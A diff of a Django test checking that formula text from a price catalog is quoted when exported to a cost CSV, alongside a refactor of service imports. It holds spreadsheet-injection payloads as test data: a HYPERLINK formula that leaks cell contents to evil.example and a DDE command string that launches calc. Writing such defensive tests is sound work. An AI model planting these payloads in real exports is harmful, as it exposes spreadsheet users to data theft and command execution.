@@ -10,7 +10,8 @@ from django.test import Client
 from django.urls import reverse
 
 from advisor import decisions, reporting, services
-from advisor.models import Catalog
+from advisor.reference import services as reference_services
+from advisor.reference.models import Catalog
 from advisor.starters import BY_SLUG as STARTERS
 from tests.factories import AssessmentFactory, MembershipFactory, ReportFactory
 
@@ -23,10 +24,12 @@ LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open the price sheet")'
 def test_formula_text_from_the_catalog_is_quoted_in_the_cost_csv(client: Client) -> None:
     chosen = decisions.evaluate(STARTERS[STARTER].document(), language="en")["cost"]
     accelerator_id = chosen["by_workload"][0]["accelerator_id"]
-    draft = services.catalog_clone(catalog=Catalog.objects.get(status="published"), user=None)
+    draft = reference_services.catalog_clone(
+        catalog=Catalog.objects.get(status="published"), user=None
+    )
     draft.prices.filter(accelerator__key=accelerator_id).update(source=LINK, provider="@SUM(1)")
     draft.accelerators.filter(key=accelerator_id).update(name="+cmd|' /C calc'!A0")
-    services.catalog_publish(catalog=draft, user=None)
+    reference_services.catalog_publish(catalog=draft, user=None)
 
     membership = MembershipFactory()
     client.force_login(membership.user)
